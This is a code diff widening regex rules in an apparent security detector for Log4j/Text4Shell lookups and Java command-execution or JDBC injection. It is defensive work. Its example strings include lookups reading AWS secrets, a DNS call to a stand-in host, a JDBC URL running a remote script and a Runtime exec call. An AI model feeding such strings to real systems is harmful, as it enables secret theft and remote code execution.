@@ -23,7 +23,7 @@ export const detector: Detector = {
     },
     {
       id: "log-lookup", why: "A look-up of Log4j or Commons Text reads the machine's environment, asks a name server or runs a script (CVE-2022-42889).", over: "text", score: 5,
-      pattern: /\$\{(?:env|sys|java|hostName|docker|k8s|spring|bundle|ctx|main|web|log4j|sd|jvmrunargs|marker|map|event|script|dns|url|file|const|urlDecoder|xml|resourceBundle):[\w.:\-/|'"() ]+\}|\$\{(?:script|dns|url|file|urlDecoder|xml):[^\s}]{2}/i,
+      pattern: /\$\{(?:env|sys|java|hostName|docker|k8s|spring|bundle|ctx|main|web|log4j|sd|jvmrunargs|marker|map|event|script|dns|url|file|const|urlDecoder|xml|resourceBundle|base64Decoder|properties):[\w.:\-/|'"() ]+\}|\$\{(?:script|dns|url|file|urlDecoder|xml|base64Decoder):[^\s}]{2}/i,
       examples: ["${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${java:os}", "${dns:address|x.example}"],
       counterExamples: ["${env}", "${color:red}", "env: production"],
     },
@@ -53,7 +53,7 @@ export const detector: Detector = {
     },
     {
       id: "runtime", why: "A command is run, or foreign code loaded, by Java's runtime or a driver of it.", over: "text", score: 5,
-      pattern: /getRuntime\s*\(\s*\)\s*\.\s*exec\s*\(|\bProcessBuilder\s*\([^\n]*\)\s*\.\s*start\s*\(|ScriptEngineManager[^\n]*\.eval\s*\(|\$\$BCEL\$\$|\bClassPathXmlApplicationContext\b|\bFileSystemXmlApplicationContext\b|\bCamelExec\w+\s*:|<insertFromJNDI\b|\bjdbc:(?:h2:[^\n]*(?:init\s*=|runscript|trigger)|mysql:[^\n]*(?:autodeserialize|allowloadlocalinfile|queryinterceptors)|postgresql:[^\n]*(?:socketfactory|loggerfile|sslfactory)|db2:[^\n]*clientreroute|derby:[^\n]*slavehost|ibm:|oracle:[^\n]*ldap)|\]\s*\.\s*execute\s*\(\s*\)\s*\.\s*text|javax\.naming\.InitialContext|^\s*java\.lang\.\w+\.\w+\s*\(/i,
+      pattern: /getRuntime\s*\(\s*\)\s*(?:;[\t ]*\w+\s*)?\.\s*exec\s*\(|\bProcessBuilder\s*\([^\n]*\)\s*\.\s*start\s*\(|ScriptEngineManager[^\n]*\.eval\s*\(|\$\$BCEL\$\$|\bClassPathXmlApplicationContext\b|\bFileSystemXmlApplicationContext\b|\bCamelExec\w+\s*:|<insertFromJNDI\b|\bjdbc:(?:h2:[^\n]*(?:init\s*=|runscript|trigger)|mysql:[^\n]*(?:autodeserialize|allowloadlocalinfile|queryinterceptors)|postgresql:[^\n]*(?:socketfactory|loggerfile|sslfactory)|db2:[^\n]*clientreroute|derby:[^\n]*slavehost|ibm:|oracle:[^\n]*ldap)|\]\s*\.\s*execute\s*\(\s*\)\s*\.\s*text|javax\.naming\.InitialContext|^\s*java\.lang\.\w+\.\w+\s*\(/i,
       examples: ["java.lang.Runtime.getRuntime().exec('id')", "new ProcessBuilder('id').start()", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x'"],
       counterExamples: ["The process builder starts", "jdbc:postgresql://db/orders", "Runtime rt = Runtime.getRuntime();\nrt.exec(cmd);"],
     },
